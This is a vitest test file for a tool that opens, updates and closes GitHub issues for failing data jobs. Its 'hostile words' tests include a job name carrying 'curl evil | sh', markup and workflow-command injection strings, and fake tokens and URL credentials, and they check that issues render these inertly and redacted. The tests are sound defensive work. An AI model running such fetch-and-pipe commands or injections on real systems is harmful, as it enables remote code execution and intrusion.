import { beforeEach, describe, expect, it } from 'vitest';
import type { FakeGithub } from '../fakes/github-api.ts';
import { type IssuesWorld, issuesWorld } from './issues-world.ts';

const ONE = '2026-11-21T01:00:00.000Z';
const TWO = '2026-11-21T02:00:00.000Z';
const THREE = '2026-11-21T03:00:00.000Z';

let here: IssuesWorld;
let github: FakeGithub;

beforeEach(async () => {
  here = await issuesWorld();
  github = here.github;
});

const failing = { code: 'http-status' };
const bodyOf = (index: number): string => github.issues[index]?.body ?? '';
const writes = (): string[] => github.asked().filter((request) => !request.startsWith('GET'));

describe('a job that fails', () => {
  it('gets an issue that says what, since when, who must act, and how to see it', async () => {
    const { exit, json, summary } = await here.report(ONE, [failing, { job: 'people' }]);
    expect([exit, json(), summary]).toEqual([0, { opened: ['orders fails in local'], closed: [], faults: [] }, '']);
    expect(github.issues).toMatchObject([{ title: 'orders fails in local', labels: ['tidemill'], state: 'open' }]);
    const body = bodyOf(0);
    expect(body).toMatch(/Failing since 2026-11-21 01:00 UTC, 1 failure so far/);
    expect(body).toContain('- config http-status: it said no');
    expect(body).toContain('- Who must act: you');
    expect(body).toContain(`npx tidemill run orders --slot ${ONE} --environment local`);
    expect(body).toContain('[The run](https://github.com/octocat/tidemill/actions/runs/4711)');
    expect(body).toMatch(/<!-- tidemill \{.*"job":"orders","environment":"local".*\} -->/);
    expect(github.unexpected).toEqual([]);
  });

  it('keeps it: the count and the newest error are edited in, which sends no mail', async () => {
    await here.report(ONE, [failing]);
    const { json } = await here.report(TWO, [{ ...failing, message: 'it still says no' }]);
    expect(json()).toEqual({ opened: [], closed: [], faults: [] });
    expect(github.issues).toMatchObject([{ state: 'open', comments: [] }]);
    const body = bodyOf(0);
    expect(body).toMatch(/Failing since 2026-11-21 01:00 UTC, 2 failures so far.* 2026-11-21 02:00 UTC/);
    expect(body).toContain('it still says no');
  });

  it('tells those who follow it when it fails in another way', async () => {
    await here.report(ONE, [failing]);
    await here.report(TWO, [{ code: 'type-changed' }]);
    expect(github.issues[0]!.comments).toEqual([expect.stringMatching(/until then it was http-status.*type-changed/s)]);
    expect(github.issues[0]!.body).toContain('type-changed');
  });

  it('is closed with a comment by the next success, and another failure opens another', async () => {
    await here.report(ONE, [failing]);
    await here.report(TWO, [failing]);
    expect((await here.report(THREE, [{}])).json().closed).toEqual(['orders fails in local']);
    expect(github.issues).toMatchObject([{ state: 'closed', state_reason: 'completed' }]);
    expect(github.issues[0]!.comments).toEqual([
      expect.stringMatching(/^Well again, after 2 failures since 2026-11-21 01:00 UTC\. 3 rows/),
    ]);
    await here.report('2026-11-21T04:00:00.000Z', [failing]);
    expect(github.issues.map(({ state }) => state)).toEqual(['closed', 'open']);
    expect(github.issues[1]!.body).toMatch(/since 2026-11-21 04:00 UTC, 1 failure so far/);
  });

  it('may also miss a gate, or lose its leg', async () => {
    await here.report(ONE, [{ gates: ['3 records, expected at least 10'] }], { lost: ['people'] });
    const bodies = github.issues.map(({ title, body }) => `${title}\n${body}`);
    expect(bodies).toEqual([
      expect.stringMatching(/^orders fails.*a gate is not met: 3 records.*"code":"gate-not-met"/s),
      expect.stringMatching(/^people fails.*ended without a report.*"code":"leg-lost"/s),
    ]);
    await here.report(TWO, [{}, { job: 'people' }]);
    expect(github.issues.map(({ state }) => state)).toEqual(['closed', 'closed']);
  });

  it('has an issue for each environment, and the success of one is not that of the other', async () => {
    await here.report(ONE, [failing]);
    const [issue] = github.issues;
    Object.assign(issue!, { body: issue!.body!.replaceAll('"environment":"local"', '"environment":"prd"') });
    await here.report(TWO, [{}]);
    await here.report(THREE, [failing, { job: 'people', environment: 'prd', code: 'x' }]);
    expect(github.issues.map(({ title, state }) => [title, state])).toEqual([
      ['orders fails in local', 'open'],
      ['orders fails in local', 'open'],
    ]);
  });
});

describe('what changes nothing', () => {
  it('is a run that was covered or stopped', async () => {
    await here.report(ONE, [failing]);
    await here.report(TWO, [{ result: 'covered' }, { job: 'people', result: 'stopped' }]);
    expect(github.issues).toMatchObject([{ state: 'open', body: expect.stringContaining('1 failure so far') }]);
  });

  it('is a report that is made twice', async () => {
    await here.report(ONE, [failing], { run: 'r' });
    const before = structuredClone(github.issues);
    await here.again('r');
    expect(github.issues).toEqual(before);
  });

  it('is a report that comes late', async () => {
    await here.report(TWO, [failing]);
    await here.report(ONE, [{}]);
    await here.report(ONE, [{ code: 'older' }]);
    expect(github.issues).toMatchObject([{ state: 'open', comments: [], body: expect.stringContaining('1 failure') }]);
  });

  it('is a success of a job without an issue: one question is asked', async () => {
    await here.report(ONE, [{}, { job: 'people' }]);
    expect(github.asked()).toEqual(['GET /issues']);
  });

  it('is an issue that somebody else has written, or changed beyond recognition', async () => {
    github.labels.add('tidemill');
    const foreign = {
      title: 'orders fails in local',
      labels: ['tidemill'],
      state: 'open',
      state_reason: null,
    } as const;
    for (const body of [null, 'orders', '<!-- tidemill {"subject":{"job":"orders"}} -->', '<!-- tidemill { -->']) {
      github.issues.push({ ...foreign, labels: ['tidemill'], number: github.issues.length + 1, body, comments: [] });
    }
    const before = structuredClone(github.issues);
    await here.report(ONE, [{}]);
    await here.report(TWO, [failing]);
    expect(github.issues.slice(0, 4)).toEqual(before);
    expect(github.issues).toHaveLength(5);
  });
});

describe('several slots of a job in one run', () => {
  it('count each, and the newest decides', async () => {
    await here.report(ONE, [
      { ...failing, slot: ONE },
      { ...failing, slot: TWO, started_at: TWO },
    ]);
    expect(github.issues[0]!.body).toContain('since 2026-11-21 01:00 UTC, 2 failures so far');
    await here.report(THREE, [
      { slot: THREE, started_at: '2026-11-21T03:01:00.000Z' },
      { ...failing, slot: THREE, started_at: THREE },
    ]);
    expect(github.issues).toMatchObject([{ state: 'closed' }]);
  });
});

describe('two reports at once', () => {
  it('leave one issue open, whoever is faster', async () => {
    // Each of them looks before any of the others has written.
    let looks = 0;
    github.intercept = ({ method }) => {
      if (method !== 'GET' || looks >= 5) return undefined;
      looks += 1;
      return { json: [] };
    };
    const reports = ['01', '02', '03', '04', '05'].map((hour) =>
      here.report(`2026-11-21T${hour}:00:00.000Z`, [failing]),
    );
    const exits = (await Promise.all(reports)).map(({ exit }) => exit);
    expect(exits).toEqual([0, 0, 0, 0, 0]);
    expect(github.issues.filter(({ state }) => state === 'open').map(({ number }) => number)).toEqual([1]);
  });

  it('close the younger one as a duplicate, and what it knew is added to the older', async () => {
    let other = 0;
    github.intercept = ({ method, path }) => {
      // While this one creates its issue, the other report does the same, and is faster.
      if (method === 'POST' && path.endsWith('/issues') && other === 0) {
        other += 1;
        const { body, ...issue } = ISSUE;
        github.issues.push({ ...issue, labels: ['tidemill'], comments: [], body: body(ONE) });
      }
      return undefined;
    };
    const { json } = await here.report(TWO, [failing]);
    expect(json().opened).toEqual([]);
    expect(github.issues.map(({ state, state_reason }) => [state, state_reason])).toEqual([
      ['open', null],
      ['closed', 'not_planned'],
    ]);
    expect(github.issues[1]!.comments).toEqual(['Duplicate of #1']);
    expect(github.issues[0]!.body).toContain('since 2026-11-21 01:00 UTC, 2 failures so far');
  });
});

const ISSUE = {
  number: 1,
  title: 'orders fails in local',
  state: 'open',
  state_reason: null,
  body: (at: string): string =>
    `<!-- tidemill ${JSON.stringify({ subject: { environment: 'local', job: 'orders' }, since: at, count: 1, code: 'http-status', last: at })} -->`,
} as const;

describe('many issues', () => {
  it('are all seen, page by page, and pull requests are none of them', async () => {
    github.labels.add('tidemill');
    for (let number = 1; number <= 205; number += 1) {
      const body = ISSUE.body(ONE).replace('orders', `job_${number}`);
      const pull = number % 2 === 0 ? ({ isPullRequest: true } as const) : {};
      github.issues.push({ ...ISSUE, number, body, labels: ['tidemill'], comments: [], ...pull });
    }
    await here.report(TWO, [{ job: 'job_1' }, { job: 'job_2' }, { job: 'job_205' }]);
    const closed = github.issues.filter(({ state }) => state === 'closed').map(({ number }) => number);
    expect(closed).toEqual([1, 205]);
  });

  it('are not opened at once when everything fails; the summary says how many were not', async () => {
    const jobs = Array.from({ length: 30 }, (_, index) => ({ job: `job_${index}`, ...failing }));
    const { json, summary } = await here.report(ONE, jobs);
    expect(json().opened).toHaveLength(20);
    expect(github.issues).toHaveLength(20);
    expect(summary).toContain('10 issues too many');
    await here.report(TWO, jobs);
    expect(github.issues).toHaveLength(30);
  });
});

describe('a plan of which no leg ran', () => {
  const unstarted = { lost: ['orders', 'people'], legs: 'skipped' };

  it('gets one issue that says where to look, not one for each job, and a run with legs closes it', async () => {
    const { json } = await here.report(ONE, [], unstarted);
    expect(json().opened).toEqual(['A plan had work, and no leg ran']);
    expect(bodyOf(0)).toMatch(/no leg ran.*a part of a secret.*one to four characters, or of several lines/s);
    await here.report(TWO, [], unstarted);
    expect(bodyOf(0)).toContain('2 failures so far');
    expect((await here.report(THREE, [{}], { legs: 'success' })).json().closed).toEqual([
      'A plan had work, and no leg ran',
    ]);
  });

  it('is found in the bucket by the run of the workflow, where GitHub did not hand its name on', async () => {
    for (const attempt of [1, 2])
      await here.report(ONE, [], { ...unstarted, run: `20261121T0100${attempt}0Z-4711-${attempt}` });
    await here.report(ONE, [{}], { run: '20261121T010030Z-14711-1' });
    github.issues.length = 0;
    expect((await here.again('', {}, ['--legs', 'skipped'])).json().opened).toEqual([
      'A plan had work, and no leg ran',
    ]);
    const elsewhere = await here.again('', { GITHUB_RUN_ID: '471' });
    expect([elsewhere.exit, elsewhere.json().error.code]).toEqual([2, 'unknown-run']);
  });

  it('is none whose legs ended some other way', async () => {
    const { json } = await here.report(ONE, [], { lost: ['orders'], legs: 'cancelled' });
    expect(json().opened).toEqual(['orders fails in local']);
  });
});

describe('hostile words', () => {
  const hostile = 'a | b `c` <img src=x> @octocat #1 --> <!-- tidemill {} -->\n::set-output name=x::y ```';

  it('are text in the issue, and nothing else', async () => {
    await here.report(ONE, [{ code: 'a-->b', message: hostile }]);
    await here.report(TWO, [{ code: hostile, message: 'x'.repeat(100_000) }]);
    const [issue] = github.issues;
    for (const text of [issue!.body!, ...issue!.comments]) {
      expect(text.replace(/<!-- tidemill \{.*\} -->\n$/, '')).not.toMatch(/<img|@octocat|#1\b|-->|<!--|^::|`c`/m);
      expect(text.length).toBeLessThan(10_000);
    }
    await here.report(THREE, [{}]);
    expect(github.issues).toMatchObject([{ state: 'closed' }]);
  });

  it('never become a command to copy', async () => {
    await here.report(ONE, [{ ...failing, job: 'orders; curl evil | sh' }]);
    expect(github.issues[0]!.body).not.toContain('```');
  });

  it('are cleared of what this process knows of secrets', async () => {
    const secret = 'xoxb-1234567890';
    const message = `refused ${secret} at https://user:pass@shop.example/?access_token=abc123`;
    await here.report(ONE, [{ ...failing, message }], { env: { GCS_SERVICE_ACCOUNT_KEY: secret } });
    for (const word of [secret, 'pass@', 'abc123']) expect(github.issues[0]!.body).not.toContain(word);
  });
});

it('asks for as little as it can: a second failure costs two requests', async () => {
  await here.report(ONE, [failing]);
  expect(writes()).toEqual(['POST /labels', 'POST /issues']);
  await here.report(TWO, [failing]);
  expect(github.asked().slice(-2)).toEqual(['GET /issues', 'PATCH /issues/1']);
});
